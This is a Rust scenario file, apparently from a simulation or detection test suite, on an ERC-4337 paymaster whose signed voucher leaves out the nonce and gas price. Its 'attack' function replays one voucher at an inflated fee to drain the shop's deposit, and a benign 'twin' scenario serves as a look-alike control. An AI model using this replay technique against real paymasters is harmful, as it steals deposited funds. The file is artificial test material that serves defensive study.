//! A paymaster's voucher that says nothing of what may be spent: a flaw that audits found in several paymasters (ERC-4337).

use alloy_primitives::keccak256;
use anyhow::{Result, ensure};
use facts::{Address, Bytes, U256};

use super::super::{
    declare::called_only_by,
    props::{give, one, signed, token, units},
};
use crate::{Scenario, Stage, Tuple, args, call_data, encode, ether};

pub(super) const GAS_VOUCHER: Scenario = Scenario {
    id: "signature/replay/gas-voucher",
    about: "a shop's paymaster vouches for a call and not for its number or cost; its customer brings the same call again and \
            again himself, at a price of his own, and is paid for it out of the shop's deposit",
    attack,
    twin,
};

const HANDLE: &str = "handleOps((address,uint256,bytes,uint256,uint256,uint256,address,uint48,bytes,bytes)[],address)";
/// Wei for a unit of gas on a usual day.
const FEE: u64 = 30_000_000_000;

struct Shop {
    team: Address,
    entry: Address,
    paymaster: Address,
    points: Address,
    till: Address,
}

/// An operation: who, which number, at which price, with how much gas in advance.
struct Op<'a> {
    name: &'a str,
    account: Address,
    nonce: u64,
    fee: u64,
    ahead: U256,
}

/// Customers pay with points, which costs them nothing else.
fn op(stage: &Stage<'_>, shop: &Shop, op: &Op<'_>, until: u64) -> Result<Tuple> {
    let pay = call_data("transfer(address,uint256)", args![shop.till, units(3, 18)]);
    let call = call_data("execute(address,uint256,bytes)", args![shop.points, U256::ZERO, pay]);
    let gas = U256::from(200_000);
    let hashed = keccak256(&call);
    let vouched = keccak256(encode(args![shop.paymaster, op.account, hashed, until]));
    let voucher = signed(stage, "shop's server", vouched)?;
    let said = encode(args![op.account, op.nonce, hashed, gas, op.ahead, op.fee, shop.paymaster]);
    let digest = keccak256(encode(args![keccak256(said), shop.entry, 31_337u64]));
    let signature = signed(stage, op.name, digest)?;
    let (paymaster, call): (Address, Bytes) = (shop.paymaster, call);
    Ok(Tuple(args![op.account, op.nonce, call, gas, op.ahead, op.fee, paymaster, until, voucher, signature]))
}

fn account(stage: &mut Stage<'_>, shop: &Shop, name: &str) -> Result<Address> {
    let (owner, team) = (stage.stranger(name), shop.team);
    let account = stage.deploy(team, "OpsAccount", args![owner, shop.entry])?;
    give(stage, team, shop.points, account, units(5_000, 18));
    Ok(account)
}

fn shop(stage: &mut Stage<'_>, bundlers: &[Address]) -> Result<(Shop, Vec<(String, Address)>)> {
    let team = stage.actor("team");
    let server = stage.stranger("shop's server");
    let maker = stage.actor("makers of the entry");
    let entry = stage.deploy(maker, "OpsEntry", args![])?;
    let paymaster = stage.deploy(team, "VoucherPaymaster", args![entry, server])?;
    let points = token(stage, team, "PTS", 18)?;
    let till = stage.actor("till");
    stage.protect(paymaster, "paymaster");
    stage.protect(entry, "entry");
    called_only_by(stage, "known-bundlers", "signature/replay", (entry, HANDLE), bundlers);
    // Others use the entry too.
    let other = stage.actor("other team");
    stage.pay(other, entry, stage.amount(ether(700)), "depositTo(address)", args![other]);
    stage.pay(team, paymaster, stage.amount(ether(400)), "deposit()", args![]);
    let shop = Shop { team, entry, paymaster, points, till };
    let mut customers = Vec::new();
    for n in 0..8 {
        let name = format!("customer {n}");
        let at = account(stage, &shop, &name)?;
        customers.push((name, at));
    }
    stage.pass(1)?;
    for nonce in 0..3 {
        bundle(stage, &shop, (bundlers[0], FEE), &customers, nonce)?;
    }
    Ok((shop, customers))
}

/// Everybody's operation, in one bundle.
fn bundle(
    stage: &mut Stage<'_>,
    shop: &Shop,
    (bundler, fee): (Address, u64),
    customers: &[(String, Address)],
    nonce: u64,
) -> Result<()> {
    let until = stage.next_time() + 600;
    let ahead = U256::from(50_000);
    let ops = customers.iter().map(|(name, account)| {
        let own = Op { name: name.as_str(), account: *account, nonce, fee, ahead };
        op(stage, shop, &own, until)
    });
    let ops = ops.collect::<Result<Vec<_>>>()?;
    stage.call(bundler, shop.entry, HANDLE, args![ops, bundler]);
    stage.pass(1)
}

fn attack(stage: &mut Stage<'_>) -> Result<()> {
    let bundler = stage.actor("bundler");
    let (shop, _) = shop(stage, &[bundler])?;
    let thief = stage.actor("thief");
    let mine = account(stage, &shop, "thief")?;
    stage.pass(1)?;
    let payee = stage.payee(thief);
    let before = one(stage, shop.entry, "balanceOf(address)", args![shop.paymaster])?;
    let fee = FEE * 20;
    let parts = stage.variation.parts;
    // Each part brings two operations; the voucher is the same for all of them.
    let each = before * U256::from(95) / U256::from(200 * parts);
    let until = stage.next_time() + 3_000;
    for part in 0..parts {
        let ops = (0..2).map(|which| {
            let own = Op { name: "thief", account: mine, nonce: 2 * part + which, fee, ahead: each / U256::from(fee) };
            op(stage, &shop, &own, until)
        });
        let ops = ops.collect::<Result<Vec<_>>>()?;
        stage.attack(|stage| {
            stage.call(thief, shop.entry, HANDLE, args![ops, payee]);
            Ok(())
        })?;
        stage.between_parts()?;
    }
    let left = one(stage, shop.entry, "balanceOf(address)", args![shop.paymaster])?;
    ensure!(left < before / U256::from(10), "{left} of {before} are left");
    Ok(())
}

/// On a day of dear gas bundles cost ten times as much, and then the team moves its deposit to its next paymaster.
fn twin(stage: &mut Stage<'_>) -> Result<()> {
    let (bundler, second) = (stage.actor("bundler"), stage.actor("second bundler"));
    let (shop, customers) = shop(stage, &[bundler, second])?;
    let server = stage.stranger("shop's server");
    for nonce in 3..9 {
        let by = if nonce % 2 == 0 { bundler } else { second };
        bundle(stage, &shop, (by, FEE * 12), &customers, nonce)?;
    }
    let left = one(stage, shop.entry, "balanceOf(address)", args![shop.paymaster])?;
    let most = left * U256::from(9) / U256::from(10);
    let next = stage.deploy(shop.team, "VoucherPaymaster", args![shop.entry, server])?;
    stage.call(shop.team, shop.paymaster, "withdraw(address,uint256)", args![shop.team, most]);
    stage.pay(shop.team, next, most, "deposit()", args![]);
    stage.mine()?;
    let moved = one(stage, shop.entry, "balanceOf(address)", args![next])?;
    ensure!(moved == most, "{moved} of {most} were moved");
    Ok(())
}
